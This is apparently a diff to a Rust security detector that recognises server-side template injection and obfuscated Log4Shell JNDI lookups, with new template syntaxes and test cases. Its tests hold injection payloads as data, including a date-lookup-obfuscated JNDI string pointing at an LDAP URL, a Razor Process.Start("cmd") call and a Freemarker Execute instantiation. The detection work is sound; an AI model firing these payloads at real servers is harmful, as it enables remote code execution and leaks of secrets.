@@ -1,9 +1,10 @@
 //! Server-side template injection and Log4Shell-style lookups. Lookups are *resolved* before
 //! matching (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${env:X:-j}` all become `jndi:`),
 //! with bounded nesting. Template expressions (`{{…}}`, `{%…%}`, `${…}`, `#{…}`, `*{…}`,
-//! `<%…%>`, `<#…>`) are reported when their content computes or reaches objects
-//! (arithmetic, calls, dunder attributes, well-known template globals), not when they merely
-//! name a variable (`{{ name }}`).
+//! `<%…%>`, `<#…>`, OGNL `%{…}`, Freemarker `[=…]` and `[#…]`, Smarty `{$…}`, Razor `@(…)`) are
+//! reported when their content computes or reaches objects (arithmetic, calls, dunder
+//! attributes, well-known template globals, Go template actions), not when they merely name a
+//! variable (`{{ name }}`).
 
 use super::subject::{class, find, find_iter, gate, Hit, Needs, Subject, Tables};
 
@@ -31,6 +32,7 @@ const LOOKUPS: &[&[u8]] = &[
     b"${marker:",
     b"${map:",
     b"${event:",
+    b"${date:",
 ];
 
 const OPENERS: &[(&[u8], &[u8])] = &[
@@ -43,6 +45,24 @@ const OPENERS: &[(&[u8], &[u8])] = &[
     (b"<%", b"%>"),
     (b"<#", b">"),
     (b"#set(", b")"),
+    (b"%{", b"}"),
+    (b"[=", b"]"),
+    (b"[#", b"]"),
+    (b"{$", b"}"),
+    (b"@(", b")"),
+];
+
+/// Go template actions that print or call (`{{printf "%s" .Secret}}`, `{{call .F}}`) or define
+/// and run templates; `{{.}}` prints the whole data object.
+const GO_ACTIONS: &[&[u8]] = &[
+    b"printf ",
+    b"print ",
+    b"println ",
+    b"call ",
+    b"define ",
+    b"template ",
+    b"block ",
+    b"index ",
 ];
 
 const ACTIVE: &[&[u8]] = &[
@@ -91,19 +111,35 @@ const ACTIVE: &[&[u8]] = &[
     b"forname",
     b"invoke",
     b"mro",
+    b"smarty",
 ];
+
+/// Openers without a brace, angle or hash (Razor `@(…)`, Freemarker's square syntax), and the
+/// .NET root namespace after Razor's `@`.
+const BARE_OPENERS: &[&str] = &["@(", "[=", "@system."];
 
 /// What `detect` needs to fire (see [`Needs`]): an expression's opener.
 pub(crate) fn needs() -> Needs {
-    Needs::classes(class::BRACE | class::ANGLE | class::HASH)
+    Needs::classes(class::BRACE | class::ANGLE | class::HASH).or_words(BARE_OPENERS)
 }
 
 /// Finds template injection or lookup injection in one value.
 pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
-    if !s.has(class::BRACE | class::ANGLE | class::HASH) {
+    if !s.has(class::BRACE | class::ANGLE | class::HASH | class::AT | class::BRACKET) {
         return None;
     }
     let b = s.bytes();
+    // Razor: `@System.Diagnostics.Process.Start(…)` calls into .NET from the template.
+    if let Some(p) = find(b, b"@system.") {
+        let chain = b[p + 8..]
+            .iter()
+            .take(128)
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_'))
+            .count();
+        if b.get(p + 8 + chain) == Some(&b'(') {
+            return Some(Hit::new("ssti.template_expression", p, p + 8 + chain));
+        }
+    }
     if s.gate(gate::LOOKUP) {
         if let Some(p) = find(b, b"${") {
             if let Some(at) = jndi(&b[p..]) {
@@ -150,6 +186,24 @@ fn active(content: &[u8], paranoia: u8) -> bool {
     if c.contains(&b'(') || ACTIVE.iter().any(|a| find(c, a).is_some()) {
         return true;
     }
+    // `{{.}}` and any function given the whole data object, `{{html .}}`.
+    if c == b"." || c.ends_with(b" .") || GO_ACTIONS.iter().any(|a| c.starts_with(a)) {
+        return true;
+    }
+    // A product of literals anywhere in the content: `set x = 7*7`, `$x=7*7`.
+    let near = |x: Option<&u8>| x.is_some_and(u8::is_ascii_digit);
+    for star in memchr::memchr_iter(b'*', c) {
+        let before = c[..star]
+            .iter()
+            .rev()
+            .find(|ch| !matches!(ch, b' ' | b'\'' | b'"'));
+        let after = c[star + 1..]
+            .iter()
+            .find(|ch| !matches!(ch, b' ' | b'\'' | b'"'));
+        if near(before) && near(after) {
+            return true;
+        }
+    }
     // Arithmetic between literals: `7*7`, `7*'7'`, `7 + 7`.
     let digits = |x: &[u8]| x.iter().any(u8::is_ascii_digit);
     for (i, ch) in c.iter().enumerate() {
@@ -193,6 +247,9 @@ fn jndi(b: &[u8]) -> Option<usize> {
                 &content[p + 2..]
             } else if content.starts_with(b"lower:") || content.starts_with(b"upper:") {
                 &content[6..]
+            } else if let Some(q) = content.strip_prefix(b"date:'") {
+                // A date pattern's quoted text is printed as it is.
+                q.strip_suffix(b"'").unwrap_or(q)
             } else {
                 &[]
             };
@@ -248,6 +305,25 @@ mod tests {
             ),
             ("<%= 7*7 %>", "ssti.template_expression"),
             ("#{7*7}", "ssti.template_expression"),
+            ("{% set x = 7*7 %}{{x}}", "ssti.template_expression"),
+            ("#set($x=7*7)${x}", "ssti.template_expression"),
+            ("%{7*7}", "ssti.template_expression"),
+            ("[=7*7]", "ssti.template_expression"),
+            ("{$smarty.version}", "ssti.template_expression"),
+            ("@(7*7)", "ssti.template_expression"),
+            (
+                "@System.Diagnostics.Process.Start(\"cmd\")",
+                "ssti.template_expression",
+            ),
+            ("{{.}}", "ssti.template_expression"),
+            ("{{printf \"%s\" .Secret}}", "ssti.template_expression"),
+            ("{{html .}}", "ssti.template_expression"),
+            ("{{define \"t\"}}x{{end}}", "ssti.template_expression"),
+            ("${date:MM-dd-yyyy}", "ssti.log4j_lookup"),
+            (
+                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
+                "ssti.jndi",
+            ),
             (
                 "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
                 "ssti.template_expression",
@@ -266,6 +342,12 @@ mod tests {
             "{\"a\": 1}",
             "#{id}",
             "cost: ${price}",
+            "{$name}",
+            "[=name]",
+            "mail me @(office)",
+            "a 7*7 grid {of tiles}",
+            "{{ .Name }}",
+            "{{ template_name }}",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
